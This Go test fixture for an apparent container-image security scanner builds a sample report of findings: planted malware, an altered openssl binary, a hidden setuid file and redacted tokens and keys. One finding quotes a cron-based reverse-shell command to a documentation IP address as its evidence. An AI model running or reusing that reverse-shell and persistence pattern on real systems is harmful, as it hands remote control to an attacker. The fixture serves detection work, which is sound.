package report

import (
	"plimsoll/internal/account"
	"plimsoll/internal/advisory"
	"plimsoll/internal/evidence"
	"plimsoll/internal/inventory"
	"plimsoll/internal/secret"
	"plimsoll/internal/triage"
	"plimsoll/internal/verdict"
)

// addContents gives the fixture what a scan for vulnerabilities never sees. The
// address is one of RFC 5737.
func addContents(v *verdict.Verdict) {
	later := layerRef(5)
	content := func(f triage.Finding, rule string, c secret.Confidence, origin int) triage.Finding {
		f.Evidence.Rule, f.Evidence.Confidence = rule, c
		f.ID = triage.Fingerprint(string(f.Kind), rule, f.Path, f.Evidence.Name)
		f.Agreed = true
		if origin >= 0 {
			f.Origin = layerRef(origin)
		} else {
			f.Origin.Index = -1
		}
		if f.Disposition == "" {
			f.Disposition = triage.Rebuild
		}
		return f
	}
	v.Findings = append(v.Findings,
		content(triage.Finding{
			Kind: triage.Malware, Title: "Shell tied to a network connection", Severity: advisory.Critical, Path: "etc/cron.d/backup", Liveness: inventory.Visible,
			Evidence: &triage.Evidence{
				Line: 3, Offset: 91, Detail: "connects bash to 203.0.113.5:4444", Excerpt: "* * * * * root bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
				Rationale: "It gives whoever listens there a shell in every container.", Techniques: []string{"T1059.004", "T1053.003"},
			},
		}, "reverse-shell", secret.Certain, 3),
		content(triage.Finding{
			Kind: triage.Provenance, Title: "Executable differs from its package's own record", Severity: advisory.High, Path: "usr/bin/openssl",
			Package: "openssl 3.0.9-1", Liveness: inventory.Visible,
			Evidence: &triage.Evidence{Detail: "rewritten by layer 5 (RUN curl …) after layer 3 (RUN apt-get …) had installed its package", Techniques: []string{"T1554"}},
		}, "altered-executable", secret.Certain, 5),
		content(triage.Finding{
			Kind: triage.Secret, Title: "Private key (PEM)", Severity: advisory.High, Path: "app/deploy/id_rsa", Liveness: inventory.Deleted,
			Evidence: &triage.Evidence{Line: 1, Redacted: "[1675 redacted]", By: &later, Value: "a"},
		}, "private-key", secret.Certain, 4),
		content(triage.Finding{
			Kind: triage.Secret, Title: "GitHub personal access token (classic)", Severity: advisory.Critical, Path: "config.Env.GITHUB_TOKEN", Liveness: inventory.InConfig,
			Evidence: &triage.Evidence{Name: "GITHUB_TOKEN", Redacted: "ghp_[36 redacted]", Also: []string{"history.7"}, Value: "b"},
		}, "github-classic-token", secret.Certain, -1),
		content(triage.Finding{
			Kind: triage.Secret, Title: "GitHub personal access token (classic)", Severity: advisory.Critical, Path: "app/web.jar", Liveness: inventory.Visible,
			Evidence: &triage.Evidence{Inside: "BOOT-INF/classes/application.yml", Line: 12, Name: "token", Redacted: "ghp_[36 redacted]", Encoding: "base64", Value: "b"},
		}, "github-classic-token", secret.Certain, 4),
		content(triage.Finding{
			Kind: triage.Secret, Title: "Password in an assignment", Severity: advisory.Low, Path: "app/test/fixtures/login.js", Liveness: inventory.Visible, Disposition: triage.Defer,
			Evidence: &triage.Evidence{Line: 4, Name: "password", Redacted: "[9 redacted]", Value: "c"},
		}, "generic-password", secret.Possible, 4),
	)
	v.Account = account.Account{
		Executables: 1284, ByStatus: map[account.Status]int{account.Intact: 1271, account.Built: 9, account.Altered: 1, account.Unaccounted: 3},
		Lower: 2, LowerByStatus: map[account.Status]int{account.Intact: 2},
		BuiltBy: []account.BuildStep{{Layer: layerRef(4), Executables: 9}},
		Entries: []account.Entry{
			{
				Path: "usr/bin/openssl", Kind: evidence.Program, Mode: "-rwxr-xr-x", Size: 1_004_192, SHA256: digest("ab12")[7:], Status: account.Altered,
				Owner: "openssl 3.0.9-1", OwnerType: "deb", Reason: "rewritten by layer 5 (RUN curl …) after layer 3 (RUN apt-get …) had installed its package",
				Layer: layerRef(5), Liveness: inventory.Visible, Risk: 75, Risks: []string{"it differs from its package's record", "on the search path"},
			},
			{
				Path: "usr/lib/.cache/kworker", Kind: evidence.Program, Mode: "-rwsr-xr-x", Size: 61_440, SHA256: digest("cd34")[7:], Status: account.Unaccounted,
				Reason: "no package owns it, and layer 3 (RUN apt-get …) only installs packages", Capabilities: "cap_net_raw=ep",
				Layer: layerRef(3), Liveness: inventory.Visible, Risk: 65, Risks: []string{"nothing says where it is from", "setuid root", "file capabilities", "in a hidden folder"},
			},
			{
				Path: "app/bin/server", Kind: evidence.Program, Mode: "-rwxr-xr-x", Size: 9_437_184, Status: account.Built, Reason: "added by layer 4 (COPY . /app)",
				Layer: layerRef(4), Liveness: inventory.Visible, Risk: 6,
			},
			{
				Path: "usr/bin/perl", Kind: evidence.Program, Mode: "-rwxr-xr-x", Size: 3_801_024, Status: account.Intact, Owner: "perl-base 5.36.0-7", OwnerType: "deb",
				Layer: layerRef(0), Liveness: inventory.Visible,
			},
		},
	}
	v.Headline.Secrets, v.Headline.Planted, v.Headline.Altered, v.Headline.Possible = 2, 1, 1, 1
}
